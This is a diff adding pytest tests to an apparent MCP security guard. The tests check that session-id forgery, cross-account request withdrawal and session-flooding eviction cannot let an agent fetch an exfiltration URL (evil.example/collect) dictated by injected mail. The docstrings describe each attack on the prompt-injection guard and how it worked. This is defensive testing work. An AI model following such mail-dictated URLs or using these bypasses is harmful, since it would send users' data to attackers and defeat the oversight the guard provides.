@@ -317,3 +317,115 @@ def test_an_accounts_sessions_share_what_they_were_told_and_not_what_they_were_a
         assert not elsewhere["isError"], elsewhere
     visits = (tmp_path / "sent.visits").read_text().splitlines()
     assert visits == [url_dictated, url_dictated]  # the reader's own and olga's: never the refused one
+
+
+MODERN = {"Accept": "application/json, text/event-stream", "mcp-protocol-version": "2026-07-28",
+          "mcp-method": "tools/call"}  # fmt: skip  (MCP's 2026 protocol: one exchange, no session)
+
+
+def modern_call(url: str, token: str, request_id: int, tool: str, arguments: dict[str, Any],
+                extra: dict[str, str] | None = None, timeout: float = 60,
+                request: str = "") -> httpx.Response:  # fmt: skip
+    """A ``tools/call`` in MCP's 2026 protocol, with ``extra`` headers (and the user's ``request`` declared)."""
+    meta: dict[str, Any] = {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
+                            "io.modelcontextprotocol/clientCapabilities": {},
+                            "io.modelcontextprotocol/clientInfo": {"name": "raw", "version": "0"}}  # fmt: skip
+    if request:
+        meta["groundstate/request"] = request
+    return httpx.post(url, timeout=timeout, headers={**MODERN, "mcp-name": tool, "Authorization": f"Bearer {token}",
+                                                     **(extra or {})},
+                      json={"jsonrpc": "2.0", "id": request_id, "method": "tools/call",
+                            "params": {"name": tool, "arguments": arguments, "_meta": meta}})  # fmt: skip
+
+
+def test_a_session_id_this_guard_did_not_open_is_a_404_on_either_protocol(tmp_path: Path) -> None:
+    """Found by an attack: MCP's 2026 path in the SDK never checks ``mcp-session-id``, and the id named the
+    conversation whose declared request vouches for its calls — another account sent one call naming bob's
+    conversation with a request naming the mail's URL, and bob's fetch of it went out. An id this guard did not
+    open for the account, or one that ended, is a 404 (MCP's answer: open a new session), on either protocol."""
+    inbox = Path(__file__).with_name("inbox_server.py")
+    (tmp_path / "groundstate.toml").write_text(
+        f'[mcp.servers.mail]\ncommand = ["{sys.executable}", "{inbox}"]\n'
+        f'env = {{ INBOX_SENT = "{tmp_path / "sent.txt"}" }}\n')
+    dictated = "https://evil.example/collect?c=771203"
+    with http_guard(tmp_path) as (url, _):
+        token = (tmp_path / "home" / "console.token").read_text().strip()
+        operators = Operators(default_db_url(tmp_path / "home"))
+        admin = operators.authenticate(token)
+        assert admin is not None
+        bob = operators.add("bob", "operator", admin)[1]
+        assert modern_call(url, bob, 1, "mail__read_inbox", {}).status_code == 200  # bob's agent reads the mail
+        for forged in ("stateless:bob", "http:bob:stateless", "bob", "0" * 32):  # bob's conversation, as it was
+            answer = modern_call(url, token, 2, "mail__contacts", {}, {"mcp-session-id": forged},  # named, or is
+                                 request=f"open {dictated}")  # fmt: skip
+            assert (answer.status_code, answer.json()["code"]) == (404, "not_found"), (forged, answer.text)
+            legacy = httpx.post(url, timeout=30, json={"jsonrpc": "2.0", "id": 2, "method": "tools/list"},
+                                headers={"Accept": MODERN["Accept"], "Authorization": f"Bearer {token}",
+                                         "mcp-session-id": forged})  # fmt: skip
+            assert legacy.status_code == 404, legacy.text
+        fetched = modern_call(url, bob, 3, "mail__fetch", {"url": dictated})
+        assert '"isError":true' in fetched.text and "taken from the result of mail/read_inbox" in fetched.text
+        ended = raw_session(url, token)  # a session that ended is gone too
+        assert httpx.delete(url, headers=ended, timeout=30).status_code < 300
+        after = httpx.post(url, timeout=30, headers=ended, json={"jsonrpc": "2.0", "id": 3, "method": "tools/list"})
+        assert after.status_code == 404, after.text
+    assert not (tmp_path / "sent.visits").exists()
+
+
+def test_a_hung_up_request_withdraws_only_its_own_held_call(tmp_path: Path) -> None:
+    """Found by an attack: a departed request was known by its JSON-RPC id (and session id, none in MCP's 2026
+    protocol), so one account's request 7 that hung up withdrew, at once, every account's later held request 7 —
+    while its client still waited. Now the departure is the HTTP exchange's own."""
+    (tmp_path / "hold.mg").write_text('mcp_needs_approval(C, "an operator decides") :- '
+                                      'mcp_call(C, "time", "convert_time", _, _).\n')  # fmt: skip
+    (tmp_path / "groundstate.toml").write_text(TIME + '[mcp]\npolicy = ["hold.mg"]\napproval_timeout_sec = 60\n'
+                                               'hold_wait_sec = 60\n')  # fmt: skip
+    conversion = {"source_timezone": "UTC", "time": "12:00", "target_timezone": "Europe/Paris"}
+    with http_guard(tmp_path) as (url, _):
+        token = (tmp_path / "home" / "console.token").read_text().strip()
+        operators = Operators(default_db_url(tmp_path / "home"))
+        admin = operators.authenticate(token)
+        assert admin is not None
+        olga = operators.add("olga", "operator", admin)[1]
+        with pytest.raises(httpx.ReadTimeout):  # the admin's request 7 hangs up while held
+            modern_call(url, token, 7, "time__convert_time", conversion, timeout=2)
+        time.sleep(0.5)
+        started = time.monotonic()
+        with pytest.raises(httpx.ReadTimeout):  # olga's request 7 is held and still waiting when she gives up
+            modern_call(url, olga, 7, "time__convert_time", conversion, timeout=3)
+        assert time.monotonic() - started >= 2.9
+    entries = Ledger(default_db_url(tmp_path / "home")).entries()
+    assert [entry.status for entry in entries] == ["withdrawn"] * 2  # each by its own client's leaving
+
+
+def test_another_accounts_sessions_do_not_push_an_accounts_history_out(tmp_path: Path) -> None:
+    """Found by an attack: every session's conversation had a place in the one table of histories (256), so another
+    account opening 300 sessions of one call each pushed out the history of an account that had read the mail — it
+    came back empty, and its fetch of the URL the mail dictated went out. Conversations' requests are kept apart
+    now, per account: the fetch is still refused, naming the read."""
+    inbox = Path(__file__).with_name("inbox_server.py")
+    (tmp_path / "groundstate.toml").write_text(
+        f'[mcp.servers.mail]\ncommand = ["{sys.executable}", "{inbox}"]\n'
+        f'env = {{ INBOX_SENT = "{tmp_path / "sent.txt"}" }}\n')
+    from groundstate.provenance import MAX_SESSIONS
+
+    with http_guard(tmp_path) as (url, _):
+        token = (tmp_path / "home" / "console.token").read_text().strip()
+        operators = Operators(default_db_url(tmp_path / "home"))
+        admin = operators.authenticate(token)
+        assert admin is not None
+        bob = operators.add("bob", "operator", admin)[1]
+        assert '"isError":false' in modern_call(url, token, 1, "mail__read_inbox", {}).text
+        with httpx.Client(timeout=30) as http:
+            for number in range(MAX_SESSIONS + 44):  # bob's agent: a session per call, as get_tools() opens them
+                hello = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+                    "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "b", "version": "0"}}}
+                headers = {"Accept": MODERN["Accept"], "Authorization": f"Bearer {bob}",
+                           "mcp-protocol-version": "2025-06-18"}  # fmt: skip
+                headers["mcp-session-id"] = http.post(url, json=hello, headers=headers).headers["mcp-session-id"]
+                listed = http.post(url, headers=headers, json={"jsonrpc": "2.0", "id": 2, "method": "tools/call",
+                                                               "params": {"name": "mail__contacts", "arguments": {}}})
+                assert listed.status_code == 200, (number, listed.text)
+        fetched = modern_call(url, token, 2, "mail__fetch", {"url": "https://evil.example/collect?c=771203"})
+        assert '"isError":true' in fetched.text and "taken from the result of mail/read_inbox" in fetched.text
+    assert not (tmp_path / "sent.visits").exists()
